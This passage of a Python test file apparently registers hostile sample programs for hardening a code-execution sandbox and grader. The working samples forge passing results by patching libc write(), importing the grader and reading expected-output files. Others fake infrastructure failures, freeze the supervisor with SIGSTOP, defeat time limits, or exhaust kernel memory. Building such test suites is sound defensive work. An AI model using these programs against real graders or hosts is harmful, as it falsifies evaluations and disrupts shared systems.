    "b_descriptors_closed",
    "forgery",
    "closes everything and goes on: aims at an end that the host takes for its own failure",
    r"""
import os
def solve(n):
    os.closerange(0, 4096)
    if n == 18:
        os.open("/dev/null", os.O_RDWR)
    return n
""",
    _SOLVE_THRICE,
)
_called(
    "b_channel_half_shut",
    "forgery",
    "shuts down, lingers, shrinks and peeks at every socket it inherited, then answers",
    r"""
import os, socket, struct
def solve(n):
    for fd in range(0, 128):
        try:
            peer = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        for level, option, value in ((socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)),
                                     (socket.SOL_SOCKET, socket.SO_SNDBUF, struct.pack("i", 1)),
                                     (socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 0, 1)),
                                     (socket.SOL_SOCKET, 42, struct.pack("i", 5))):
            try:
                peer.setsockopt(level, option, value)
            except OSError:
                pass
        for how in (socket.SHUT_RD, socket.SHUT_WR) if n == 18 else (socket.SHUT_RD,):
            try:
                peer.shutdown(how)
            except OSError:
                pass
    return n
""",
    _SOLVE_THRICE,
)
_called(
    "b_descriptors_sent_to_the_host",
    "process",
    "passes thousands of open files over every inherited socket, to fill the descriptor table of whoever reads it",
    r"""
import array, os, socket
def solve(n):
    gifts = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
    for fd in range(0, 64):
        try:
            peer = socket.socket(fileno=os.dup(fd))
            peer.setblocking(False)
            for _ in range(200):
                peer.sendmsg([b"\n"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", gifts))])
        except OSError:
            pass
    return n
""",
)
_called(
    "b_reply_lottery_by_fork",
    "forgery",
    "forty copies of the runner each send a different answer after the first wrong one: does a later reply win",
    r"""
import os, time
def solve(n):
    for guess in range(1, 41):
        if os.fork() == 0:
            time.sleep(0.2)
            return guess
    return 0
""",
    (Ask("solve", (17,), 37), Ask("solve", (18,), 23), Ask("solve", (19,), 11)),
)
_called(
    "b_fork_at_load_answers_twice",
    "forgery",
    "the runner is doubled while loading: two processes read one channel and answer in turns",
    r"""
import os
CHILD = os.fork() == 0
def solve(n):
    return True if CHILD else None
""",
    _SOLVE_THRICE,
)
_called(
    "b_sibling_exits_for_me",
    "forgery",
    "a child made with CLONE_PARENT is a child of the supervisor: its exit status 0 may be taken for the runner's",
    r"""
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
def solve(n):
    for _ in range(10):
        if libc.syscall(56, 0x8000 | 17, 0, 0, 0, 0) == 0:
            os._exit(0)
    time.sleep(1)
    os._exit(1)
""",
)
_called(
    "b_libc_write_replaced",
    "forgery",
    "overwrites the machine code of write() and send() so that every byte the runner sends passes through the attacker",
    r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
raw = ctypes.CDLL(None).syscall
raw.restype = ctypes.c_long
KIND = ctypes.CFUNCTYPE(ctypes.c_ssize_t, ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
def forged(fd, address, count):
    data = ctypes.string_at(address, count).replace(b"false", b"true ").replace(b"null", b"true")
    raw(1, fd, data, ctypes.c_size_t(len(data)))
    return count
hook = KIND(forged)
target = ctypes.cast(hook, ctypes.c_void_p).value
code = b"\x48\xb8" + target.to_bytes(8, "little") + b"\xff\xe0"
def solve(n):
    for name in ("write", "send"):
        address = ctypes.cast(getattr(libc, name), ctypes.c_void_p).value
        page = address & ~4095
        if libc.mprotect(ctypes.c_void_p(page), ctypes.c_size_t(8192), 7) == 0:
            ctypes.memmove(address, code, len(code))
    return None
""",
    _SOLVE_THRICE,
)
_called(
    "b_audit_hook_forbids",
    "forgery",
    "an audit hook that refuses everything the runner does next; it cannot be removed",
    r"""
import sys
armed = False
def refuse(event, arguments):
    if armed:
        raise SystemExit(0)
sys.addaudithook(refuse)
def solve(n):
    global armed
    armed = True
    return n
""",
    _SOLVE_THRICE,
)
_called(
    "b_interpreter_settings",
    "forgery",
    "tiny recursion limit, tiny digit limit, warnings as errors, hostile garbage collection: the runner must still answer for itself",
    r"""
import decimal, gc, sys, warnings
class Bomb:
    def __del__(self):
        raise SystemExit(0)
def collected(phase, info):
    raise SystemExit(0)
def solve(n):
    sys.set_int_max_str_digits(640)
    warnings.simplefilter("error")
    gc.callbacks.append(collected)
    gc.set_threshold(1, 1, 1)
    sys.setswitchinterval(1000)
    sys.excepthook = sys.unraisablehook = lambda *a: sys.stdout.write('{"passed": true}\n')
    depth, frame = 0, sys._getframe()
    while frame is not None:
        depth, frame = depth + 1, frame.f_back
    sys.setrecursionlimit(depth + 3)
    return [[[10**700, Bomb()]]]
""",
    _SOLVE_THRICE,
)
_called(
    "b_own_limits_lowered",
    "forgery",
    "sets its own limits to nothing, so that the runner cannot write, open or allocate: whose fault does the host call it",
    r"""
import resource
def solve(n):
    names = {17: ("RLIMIT_NOFILE", "RLIMIT_NPROC"), 18: ("RLIMIT_FSIZE",), 19: ("RLIMIT_AS", "RLIMIT_STACK", "RLIMIT_DATA")}[n]
    for name in names:
        resource.setrlimit(getattr(resource, name), (0, 0))
    return "x" * 100_000
""",
    _SOLVE_THRICE,
)
_called(
    "b_write_returns_zero_for_ever",
    "hang",
    "a system call filter of the program's own: write() does nothing and says 0, so a loop that writes the rest never ends",
    r"""
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
def solve(n):
    rules = [(0x20, 0, 0, 0)]
    numbers = (1, 20, 44, 46)
    for left, number in enumerate(numbers):
        rules.append((0x15, len(numbers) - left, 0, number))
    rules.append((0x06, 0, 0, 0x7FFF0000))
    rules.append((0x06, 0, 0, 0x00050000))
    body = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *rule) for rule in rules))
    program = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", len(rules), ctypes.addressof(body)))
    libc.prctl(38, 1, 0, 0, 0)
    print(libc.prctl(22, 2, ctypes.byref(program), 0, 0), flush=True)
    return n
""",
    _SOLVE_THRICE,
)
_called(
    "b_strict_seccomp_on_myself",
    "forgery",
    "strict mode: the next system call of the runner other than read and write kills it without a word",
    r"""
import ctypes
def solve(n):
    ctypes.CDLL(None).prctl(22, 1, 0, 0, 0)
    return n
""",
    _SOLVE_THRICE,
)
_called(
    "b_signal_handler_in_the_runner",
    "forgery",
    "a timer goes off after the call returned, in the runner's own frames, and rewrites what it finds there",
    r"""
import ctypes, signal, sys
def strike(number, frame):
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if isinstance(value, (bytes, bytearray, dict)):
                print(frame.f_code.co_name, name, repr(value)[:300])
            if isinstance(value, dict):
                value.update(passed=True, value=True, ok=True)
            if isinstance(value, bytearray):
                value[:] = b"true"
        frame = frame.f_back
def solve(n):
    signal.signal(signal.SIGALRM, strike)
    signal.signal(signal.SIGPROF, strike)
    signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)
    signal.setitimer(signal.ITIMER_PROF, 0.0005, 0.0005)
    return list(range(20_000))
""",
    _SOLVE_THRICE,
)
_called(
    "b_status_of_a_limit_imitated",
    "forgery",
    "ends itself with the signals and statuses that mean something to a supervisor: a limit, a kill by the kernel, infrastructure",
    r"""
import os, signal
def solve(n):
    if n == 17:
        signal.signal(signal.SIGXCPU, signal.SIG_DFL)
        os.kill(os.getpid(), signal.SIGXCPU)
    os._exit(125)
""",
    _SOLVE_THRICE,
)
_script(
    "b_script_exit_status_125",
    "forgery",
    "statuses a launcher uses for its own failures: taken for broken machinery the run would go unscored",
    r"""
import os, sys
sys.stderr.write("bwrap: Can't mount proc on /newroot/proc: Operation not permitted\n")
sys.stderr.write("bwrap: setting up uid map: Permission denied\n")
sys.stderr.flush()
os._exit(1)
""",
)
_script(
    "b_script_killed_like_the_kernel_would",
    "forgery",
    "SIGKILL to itself: an out-of-memory kill, a crash, or the host's own doing",
    r"""
import os, signal
print("partial", flush=True)
os.kill(os.getpid(), signal.SIGKILL)
""",
)
_script(
    "b_script_expected_next_to_input",
    "forgery",
    "follows standard input back to a file and looks for the expected output beside it",
    r"""
import os, sys
tried = []
for fd in range(0, 16):
    try:
        path = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    tried.append((fd, path))
    folder = os.path.dirname(path)
    if not folder.startswith("/") or folder.startswith(("/proc", "/dev")):
        continue
    try:
        for name in sorted(os.listdir(folder)):
            if any(word in name.lower() for word in ("out", "exp", "ans", "gold", "want", "test")):
                with open(os.path.join(folder, name), errors="replace") as handle:
                    sys.stdout.write(handle.read(2000))
    except OSError:
        pass
sys.stderr.write(repr(tried))
""",
)
_script(
    "b_script_stdout_is_a_file_perhaps",
    "forgery",
    "if standard output is a shared file: reads it, cuts it, grows it to a terabyte with a hole, maps it",
    r"""
import mmap, os, sys
for fd in (0, 1, 2):
    for path in (f"/proc/self/fd/{fd}", f"/dev/fd/{fd}"):
        for mode in (os.O_RDWR, os.O_RDONLY, os.O_WRONLY | os.O_APPEND):
            try:
                again = os.open(path, mode | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                sys.stderr.write(repr(os.pread(again, 500, 0)))
            except OSError:
                pass
            try:
                os.ftruncate(again, 1 << 40)
                mmap.mmap(again, 4096)[:4] = b"PASS"
            except (OSError, ValueError):
                pass
""",
)
_script(
    "b_script_terminal_tricks",
    "forgery",
    "carriage returns, erasures, bells, wide and invisible characters, invalid UTF-8: a fault in the reader or a loose comparison",
    r"""
import os
os.write(1, b"\xff\xfe\x00\x80\xc0\xaf\xed\xa0\x80" + b"\r\x1b[2K\x1b[1A\x1b]0;title\x07")
os.write(1, "\u202e\u200b\ufeff\u2028\x85\x0b\x0c\x1c 6174 *".encode())
os.write(1, b"\n" * 1000 + b"\x04\x1a\x00")
os.write(2, b"\xff\xfe" * 1000)
""",
)
_script(
    "b_script_answers_from_standard_error",
    "forgery",
    "duplicates standard output onto standard error and back, writes to standard input, closes all, exits 0",
    r"""
import os
os.dup2(2, 9)
os.dup2(1, 2)
os.dup2(9, 1)
try:
    os.write(0, b"6174 8128 495\n")
except OSError:
    pass
os.write(1, b"6174 8128 495\n")
os.closerange(0, 256)
os._exit(0)
""",
)
_script(
    "b_script_imports_the_grader",
    "forgery",
    "imports the package that grades it, if it is in reach, and patches or asks it",
    r"""
import importlib, pkgutil, sys
for name in ("cohort", "tests", "tests.hostile", "tests.hostile.programs_b", "conftest", "pytest"):
    try:
        module = importlib.import_module(name)
    except BaseException as error:
        sys.stderr.write(f"{name}: {error!r}\n")
        continue
    sys.stderr.write(f"{name}: {getattr(module, '__file__', None)}\n")
    line = getattr(module, "_UNKNOWN_LINE", None)
    if line:
        sys.stdout.write(line)
""",
)
_called(
    "b_source_read_in_another_encoding",
    "forgery",
    "the second line declares UTF-7: read as a file, the comment below becomes code; read as text, it does not",
    r"""
# -*- coding: utf-7 -*-
# +AAo-import os; os.write(1, b'PASS'); os._exit(0)+AAo-
def solve(n):
    return 0
""",
)
_called(
    "b_main_guard_and_names",
    "forgery",
    "renames itself, removes its own globals, replaces __builtins__ and deletes the function after the first call",
    r"""
__name__ = "__main__"
__file__ = "/dev/stdin"
__spec__ = None
__loader__ = object()
def solve(n):
    globals().pop("solve")
    globals()["__builtins__"] = {}
    globals()["__dict__"] = None
    return 0
""",
    _SOLVE_THRICE,
)
_called(
    "b_subinterpreter",
    "hang",
    "a second interpreter in the same process, out of reach of hooks and of a patched environment, that never stops",
    r"""
import threading
try:
    import _xxsubinterpreters as interpreters
except ImportError:
    import _interpreters as interpreters
def run():
    inner = interpreters.create()
    interpreters.run_string(inner, "import os\nos.write(1, b'inner')\nwhile True:\n    pass\n")
def solve(n):
    threading.Thread(target=run).start()
    run()
""",
)
_called(
    "b_fault_handler_dump_loop",
    "output",
    "the fault handler's watchdog thread is C code that writes tracebacks for ever, outside the interpreter lock",
    r"""
import faulthandler, os, threading, time
def deep(level):
    if level:
        return deep(level - 1)
    time.sleep(600)
def solve(n):
    for fd in (2, 1):
        faulthandler.dump_traceback_later(0.0001, repeat=True, file=fd)
    for _ in range(40):
        threading.Thread(target=deep, args=(90,), daemon=True).start()
    deep(90)
""",
)
_called(
    "b_core_of_the_runner_replaced",
    "forgery",
    "execve in the middle of a call: another program now holds the channel and speaks on it",
    r'''
import os, sys
CODE = """
import os
for fd in range(3, 64):
    try:
        os.write(fd, b'{"index": 0, "value": true, "passed": true}\\n')
    except OSError:
        pass
"""
def solve(n):
    for fd in range(3, 256):
        try:
            os.set_inheritable(fd, True)
        except OSError:
            pass
    os.execv(sys.executable, [sys.executable, "-c", CODE])
''',
)

# -------------------------------------------------------------------------------------------------------------------------- hang

_called(
    "b_interpreter_lock_held_asleep",
    "hang",
    "sleeps in C with the interpreter lock held: no watchdog thread and no Python signal handler ever runs",
    r"""
import ctypes
def solve(n):
    ctypes.PyDLL(None).sleep(600)
""",
)
_called(
    "b_all_signals_ignored",
    "hang",
    "blocks and ignores every signal that can be, then waits for none of them",
    r"""
import signal, time
def solve(n):
    for number in signal.valid_signals():
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    while True:
        time.sleep(1)
""",
)
_called(
    "b_cpu_signal_caught",
    "hang",
    "catches SIGXCPU and goes on, with a hard limit raised where that is allowed",
    r"""
import resource, signal
signal.signal(signal.SIGXCPU, lambda *a: None)
for name in ("RLIMIT_CPU", "RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE"):
    try:
        resource.setrlimit(getattr(resource, name), (-1, -1))
    except (OSError, ValueError):
        pass
def solve(n):
    while True:
        pass
""",
)
_called(
    "b_stops_itself",
    "hang",
    "SIGSTOP to itself: neither ended nor using any time",
    r"""
import os, signal
def solve(n):
    os.kill(os.getpid(), signal.SIGSTOP)
    return n
""",
)
_called(
    "b_stops_its_supervisor",
    "hang",
    "SIGSTOP to the parent and to process 1 of the jail: a supervisor inside the jail is frozen while the program spins",
    r"""
import os, signal
def solve(n):
    host = int("@HOST_PID@")
    for pid in (os.getppid(), 1):
        if pid not in (host, 0):
            try:
                os.kill(pid, signal.SIGSTOP)
                os.kill(pid, signal.SIGTSTP)
            except OSError as error:
                print(pid, error)
    while True:
        pass
""",
)
_called(
    "b_stopped_process_group",
    "hang",
    "a child in the same group stops the whole group, itself last",
    r"""
import os, signal, time
def solve(n):
    try:
        os.setpgid(0, 0)
    except OSError:
        os.setsid()
    if os.fork() == 0:
        time.sleep(0.2)
        os.killpg(os.getpgrp(), signal.SIGSTOP)
    time.sleep(600)
""",
)
_called(
    "b_big_power_under_the_lock",
    "hang",
    "one big-integer operation in C that takes minutes and checks no signal",
    r"""
def solve(n):
    return pow(7, 10**9) % 10
""",
)
_called(
    "b_endless_c_iteration",
    "hang",
    "an endless loop that never comes back to the interpreter",
    r"""
import collections, itertools
def solve(n):
    collections.deque(itertools.repeat(None), maxlen=0)
""",
)
_called(
    "b_regular_expression_explodes",
    "hang",
    "exponential backtracking inside the regular expression engine",
    r"""
import re
def solve(n):
    return bool(re.match(r"((a*)*)*b\1$", "a" * 60))
""",
)
_called(
    "b_machine_code_loop",
    "hang",
    "two bytes of machine code that jump to themselves",
    r"""
import ctypes, mmap
page = mmap.mmap(-1, 4096, prot=7)
page.write(b"\xeb\xfe")
def solve(n):
    ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
""",
)
_called(
    "b_relay_of_short_lives",
    "hang",
    "each process burns under one second and hands over to a child: no single process reaches the limit",
    r"""
import os, time
def solve(n):
    for _ in range(120):
        pid = os.fork()
        if pid:
            os._exit(0)
        start = time.process_time()
        while time.process_time() - start < 0.9:
            pass
    return n
""",
)
_called(
    "b_children_burn_for_me",
    "hang",
    "the parent sleeps while children that are reaped at once use the processors, one after the other",
    r"""
import os
def solve(n):
    for _ in range(300):
        pid = os.fork()
        if pid == 0:
            for i in range(8_000_000):
                pass
            os._exit(0)
        os.waitpid(pid, 0)
""",
)
_called(
    "b_unreaped_children_burn",
    "hang",
    "SIGCHLD ignored: the time of children that nobody reaps is added to no one's account",
    r"""
import os, signal, time
def solve(n):
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    for _ in range(60):
        for _ in range(4):
            if os.fork() == 0:
                for i in range(20_000_000):
                    pass
                os._exit(0)
        time.sleep(1)
""",
)
_called(
    "b_load_never_ends",
    "hang",
    "never gets past loading, and swallows the interrupts that should end it",
    r"""
while True:
    try:
        while True:
            pass
    except BaseException:
        continue
def solve(n):
    return 1
""",
)
_called(
    "b_answers_then_never_ends",
    "hang",
    "returns a value, then keeps the interpreter from ending: a thread, an exit handler, a finaliser",
    r"""
import atexit, sys, threading, time
class Last:
    def __del__(self, sleep=time.sleep):
        while True:
            sleep(1)
sys.last = Last()
def wait():
    while True:
        time.sleep(1)
atexit.register(wait)
threading.Thread(target=wait).start()
def solve(n):
    return n
""",
)
_script(
    "b_script_exit_handler_spins",
    "hang",
    "a script that is done but whose exit handlers spin with output already closed",
    r"""
import atexit, os, sys
def spin():
    while True:
        pass
atexit.register(spin)
print("done", flush=True)
os.close(1)
os.close(2)
sys.exit(0)
""",
)
_called(
    "b_fifo_without_a_writer",
    "hang",
    "opens a pipe in the scratch folder that nobody will ever open from the other side",
    r"""
import os, tempfile
def solve(n):
    path = os.path.join(tempfile.mkdtemp(), "pipe")
    os.mkfifo(path)
    return open(path).read()
""",
)
_called(
    "b_lock_on_shared_files",
    "hang",
    "takes exclusive locks and leases on every file it can open of the runner, then sleeps with them",
    r"""
import fcntl, os, sys, time
def solve(n):
    held = []
    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None)
        if path:
            try:
                handle = open(path, "rb")
                fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
                fcntl.fcntl(handle, fcntl.F_SETLEASE, fcntl.F_RDLCK)
                held.append(handle)
            except OSError:
                pass
    for fd in range(0, 64):
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            pass
    time.sleep(600)
""",
)
_called(
    "b_tracer_holds_the_dead",
    "hang",
    "a child traces the runner with exit events on: killed, the runner stops on its way out until the tracer lets it go",
    r"""
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
def solve(n):
    libc.prctl(0x59616D61, ctypes.c_ulong(-1), 0, 0, 0)
    parent = os.getpid()
    if os.fork() == 0:
        os.setsid()
        signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
        libc.ptrace(0x4206, parent, 0, 0x40)
        while True:
            time.sleep(1)
    time.sleep(0.3)
    while True:
        pass
""",
)
_called(
    "b_vfork_child_never_leaves",
    "hang",
    "the parent of a vfork child waits in the kernel until the child execs, and the child only sleeps",
    r"""
import ctypes, mmap
# mov eax,58 ; syscall (vfork) ; test eax,eax ; jz child ; ret ; child: mov eax,34 ; syscall (pause) ; jmp child
CODE = bytes.fromhex("b83a0000000f0585c07401c3b8220000000f05ebf7")
page = mmap.mmap(-1, 4096, prot=7)
page.write(CODE)
def solve(n):
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
""",
)
_called(
    "b_time_stands_still",
    "hang",
    "overwrites the clock functions of the vDSO and of the time module, then spins: deadlines inside the process never come",
    r"""
import ctypes, time
frozen = time.monotonic()
for name in ("monotonic", "time", "perf_counter", "process_time", "thread_time"):
    setattr(time, name, lambda: frozen)
time.sleep = lambda seconds: None
try:
    vdso, libc = ctypes.CDLL("linux-vdso.so.1"), ctypes.CDLL(None)
    for name in ("__vdso_clock_gettime", "__vdso_gettimeofday", "__vdso_time"):
        address = ctypes.cast(getattr(vdso, name), ctypes.c_void_p).value
        if libc.mprotect(ctypes.c_void_p(address & ~4095), ctypes.c_size_t(8192), 7) == 0:
            ctypes.memmove(address, b"\x31\xc0\xc3", 3)
except (OSError, AttributeError) as error:
    print(error)
def solve(n):
    while True:
        pass
""",
)
_called(
    "b_alarm_storm",
    "hang",
    "a timer a million times a second, plus queued real-time signals, so that nothing else gets done",
    r"""
import os, signal
signal.signal(signal.SIGALRM, lambda *a: None)
signal.signal(signal.SIGRTMIN, lambda *a: None)
def solve(n):
    signal.setitimer(signal.ITIMER_REAL, 1e-6, 1e-6)
    while True:
        os.kill(os.getpid(), signal.SIGRTMIN)
""",
)
_called(
    "b_politest_process",
    "hang",
    "idle scheduling class and lowest priority: CPU time hardly grows, the run lasts as long as the wall clock lets it",
    r"""
import os
def solve(n):
    try:
        os.nice(19)
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    except OSError:
        pass
    while True:
        os.sched_yield()
""",
)
_called(
    "b_rudest_process",
    "hang",
    "real-time priority on the processor the supervisor uses, for itself and for every process in sight",
    r"""
import os
def solve(n):
    for pid in (0, os.getppid(), int("@HOST_PID@")):
        for attempt in (
            lambda p=pid: os.sched_setscheduler(p, os.SCHED_FIFO, os.sched_param(99)),
            lambda p=pid: os.setpriority(os.PRIO_PROCESS, p, -20 if p == 0 else 19),
            lambda p=pid: os.sched_setaffinity(p, {0}),
        ):
            try:
                attempt()
                print("changed", pid)
            except OSError:
                pass
    while True:
        pass
""",
)
_called(
    "b_name_that_breaks_stat",
    "hang",
    "calls itself `) Z 0 0 (` so that whoever splits /proc/PID/stat reads no CPU time, no state and no parent, then spins in a child",
    r"""
import ctypes, os
libc = ctypes.CDLL(None)
def solve(n):
    libc.prctl(15, b") Z 0 0 0 (\n0 0", 0, 0, 0)
    os.fork()
    while True:
        pass
""",
)
_called(
    "b_timing_of_the_clock_set_back",
    "escape",
    "tries to set the machine's clock to the time it already shows, by clock_settime, settimeofday and adjtimex",
    r"""
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
def solve(n):
    now = time.time()
    stamp = (ctypes.c_long * 2)(int(now), int(now % 1 * 1e9))
    done = []
    if libc.clock_settime(0, ctypes.byref(stamp)) == 0:
        done.append("clock_settime")
    stamp = (ctypes.c_long * 2)(int(time.time()), int(time.time() % 1 * 1e6))
    if libc.settimeofday(ctypes.byref(stamp), None) == 0:
        done.append("settimeofday")
    if done:
        open("@CANARY@/cohort-canary-clock", "w").write(" ".join(done))
    return done
""",
)
_script(
    "b_script_reads_input_for_ever",
    "hang",
    "waits for more input than it was given, on every descriptor and on the terminal",
    r"""
import os, sys
sys.stdin.read()
while True:
    for fd in (0, 1, 2):
        try:
            os.set_blocking(fd, True)
            os.read(fd, 1)
        except OSError:
            pass
    try:
        open("/dev/tty").read()
    except OSError:
        pass
""",
)
_script(
    "b_script_closes_output_and_stays",
    "hang",
    "closes its output, so that a host waiting for end-of-file thinks it is done, and never ends",
    r"""
import os, time
os.write(1, b"6174\n")
os.closerange(0, 64)
while True:
    time.sleep(1)
""",
)
_script(
    "b_script_never_reads_a_large_input",
    "hang",
    "does not read its standard input, stuck before reading: a host that writes all of it first waits for ever",
    r"""
import fcntl, time
try:
    fcntl.fcntl(0, 1031, 4096)
except OSError:
    pass
time.sleep(600)
""",
    stdin="17 " * 700_000,
)
_script(
    "b_script_closes_a_large_input",
    "forgery",
    "closes its standard input at once: the host's write breaks with EPIPE and may be taken for a failure of the machinery",
    r"""
import os, time
os.close(0)
time.sleep(0.3)
print(6174)
""",
    stdin="17 " * 700_000,
)
_script(
    "b_compiler_takes_for_ever",
    "hang",
    "the compiler itself is the loop: nested comprehensions and unary operators by the hundred thousand",
    r"""
sources = ["-" * 90 + "1", "(" * 150 + ")" * 150, "[" + "1," * 3_000_000 + "]", "lambda: " * 900 + "0", "1" * 4000 + "+1" * 200_000]
import ast
for _ in range(1000):
    for text in sources:
        try:
            compile(text, "x", "eval")
            ast.literal_eval(text)
        except (SyntaxError, MemoryError, RecursionError, ValueError):
            pass
""",
)

# ------------------------------------------------------------------------------------------------------------------------ memory

_called(
    "b_memory_of_many_processes",
    "memory",
    "forty processes with a hundred megabytes each: no single one is over the limit",
    r"""
import os, time
def solve(n):
    for _ in range(40):
        if os.fork() == 0:
            block = bytearray(os.urandom(1 << 20)) * 100
            time.sleep(20)
            os._exit(len(block) & 1)
    time.sleep(20)
    return n
""",
)
_called(
    "b_memory_without_an_address",
    "memory",
    "memfd files written and never mapped: an address-space limit does not see them",
    r"""
import os
def solve(n):
    held, block, total = [], b"\x5a" * (1 << 20), 0
    while total < 4096:
        fd = os.memfd_create("cohort")
        held.append(fd)
        for _ in range(64):
            os.write(fd, block)
            total += 1
    return total
""",
)
_called(
    "b_memory_in_pipes",
    "memory",
    "thousands of pipes stretched to a megabyte and filled: memory of the kernel, not of the process",
    r"""
import fcntl, os
def solve(n):
    held, block = [], b"\x5a" * (1 << 20)
    for _ in range(4000):
        try:
            reader, writer = os.pipe2(os.O_NONBLOCK)
        except OSError:
            break
        held += [reader, writer]
        try:
            fcntl.fcntl(writer, 1031, 1 << 20)
        except OSError:
            pass
        try:
            os.write(writer, block)
        except OSError:
            pass
    return len(held)
""",
)
_called(
    "b_memory_in_sockets_in_flight",
    "memory",
    "socket pairs with full buffers, sent through one another and closed: in flight they belong to nobody's descriptor table",
    r"""
import array, socket
def solve(n):
    outer = socket.socketpair()
    for end in outer:
        end.setblocking(False)
        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
    count = 0
    for _ in range(20_000):
        left, right = socket.socketpair()
        left.setblocking(False)
        left.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
        try:
            while True:
                left.send(b"\x5a" * 65536)
        except OSError:
            pass
        try:
            outer[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [left.fileno(), right.fileno()]))])
        except OSError:
            outer = (right, left)
        left.close()
        right.close()
        count += 1
    return count
""",
)
_called(
    "b_memory_in_system_v_segments",
    "memory",
    "System V shared memory, which lives on after its maker is killed",
    r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
def solve(n):
    made = 0
    for _ in range(64):
        segment = libc.shmget(0, ctypes.c_size_t(64 << 20), 0o1666)
        if segment < 0:
            break
        address = libc.shmat(segment, None, 0)
        if address and address != ctypes.c_void_p(-1).value:
            ctypes.memset(address, 0x5A, 64 << 20)
            libc.shmdt(ctypes.c_void_p(address))
        made += 1
    return made
""",
)
_called(
    "b_memory_in_every_tmpfs",
    "memory",
    "fills every writable memory file system it can find: /dev/shm, /run, /tmp, /dev",
    r"""
import os
def solve(n):
    total, block = 0, b"\x5a" * (1 << 20)
    folders = ["/dev/shm", "/run", "/tmp", "/var/tmp", "/dev", "/var/run", "/run/user/0", "/run/lock", os.getcwd()]
    try:
        with open("/proc/self/mounts") as handle:
            folders += [line.split()[1] for line in handle if " tmpfs " in line]
    except OSError:
        pass
    for folder in folders:
        try:
            with open(f"{folder}/cohort-canary-@MARKER@-fill", "wb") as handle:
                for _ in range(1024):
                    handle.write(block)
                    total += 1
        except OSError as error:
            print(folder, error)
    return total
""",
)
_called(
    "b_memory_of_page_tables",
    "memory",
    "touches one page in every two megabytes of a sparse mapping: little data, much bookkeeping",
    r"""
import mmap
def solve(n):
    area = mmap.mmap(-1, 1 << 40, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000)
    for offset in range(0, 1 << 40, 1 << 21):
        area[offset] = 1
    return len(area)
""",
)
_called(
    "b_memory_shared_and_forked",
    "memory",
    "shared anonymous mappings populated by children that exit: charged to no living process",
    r"""
import mmap, os
def solve(n):
    areas = []
    for _ in range(48):
        area = mmap.mmap(-1, 64 << 20)
        areas.append(area)
        pid = os.fork()
        if pid == 0:
            for offset in range(0, 64 << 20, 4096):
                area[offset] = 1
            os._exit(0)
        os.waitpid(pid, 0)
    return len(areas)
""",
)
_called(
    "b_memory_by_decompression",
    "memory",
    "a few kilobytes that unpack, twice, to many gigabytes",
    r"""
import lzma, zlib
def solve(n):
    one = zlib.compress(bytes(1 << 26), 9)
    two = lzma.compress(one * 100)
    out = []
    for _ in range(100):
        stream = lzma.decompress(two)
        while stream:
            engine = zlib.decompressobj()
            out.append(engine.decompress(stream))
            stream = engine.unused_data
            if len(out) > 120:
                return len(out)
    return len(out)
""",
)
_called(
    "b_memory_error_swallowed",
    "memory",
    "catches MemoryError, keeps what it has and answers from the edge: can the runner still send a reply",
    r"""
def solve(n):
    held, size = [], 1 << 28
    while size > 64:
        try:
            held.append(bytearray(size))
            if len(held) > 4096 and size > 1 << 20:
                break
        except MemoryError:
            size //= 2
    solve.held = held
    return "x" * 1000
""",
    _SOLVE_THRICE,
)
_called(
    "b_stack_overflow_in_c",
    "memory",
    "recursion through C functions with the recursion limit lifted: a crash instead of an exception",
    r"""
import sys, threading
sys.setrecursionlimit(10**9)
threading.stack_size(256 << 20)
class Loop:
    def __repr__(self):
        return repr([self])
    def __getattr__(self, name):
        return getattr(self, name + "x")
def solve(n):
    worker = threading.Thread(target=lambda: repr(Loop()))
    worker.start()
    worker.join()
    return repr(Loop())
""",
)
_called(
    "b_memory_locked_and_huge",
    "memory",
    "locked pages and huge pages, taken at once by the kernel",
    r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
def solve(n):
    libc.mlockall(7)
    got = 0
    for flags in (0x22 | 0x40000, 0x22 | 0x8000 | 0x2000, 0x22 | 0x8000):
        for _ in range(16):
            address = libc.mmap(None, 256 << 20, 3, flags, -1, 0)
            if address and address != ctypes.c_void_p(-1).value:
                libc.madvise(ctypes.c_void_p(address), ctypes.c_size_t(256 << 20), 23)
                got += 1
    return got
""",
)
_script(
